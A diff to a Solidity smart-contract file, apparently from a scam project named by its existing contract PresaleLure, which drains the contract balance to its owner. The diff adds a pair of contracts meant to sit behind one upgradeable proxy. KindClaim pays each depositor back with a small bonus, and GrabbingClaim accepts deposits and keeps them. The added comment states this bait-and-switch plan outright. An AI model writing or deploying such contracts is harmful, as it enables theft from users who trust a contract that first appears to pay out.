@@ -206,3 +206,19 @@ contract PresaleLure {
         payable(_owner).transfer(address(this).balance);
     }
 }
+
+/// Two programs for one proxy: the first gives interest, the second keeps everything.
+contract KindClaim {
+    constructor() payable {}
+
+    receive() external payable {}
+
+    function claim() external payable {
+        (bool sent,) = msg.sender.call{value: msg.value + 0.01 ether}("");
+        require(sent);
+    }
+}
+
+contract GrabbingClaim {
+    function claim() external payable {}
+}
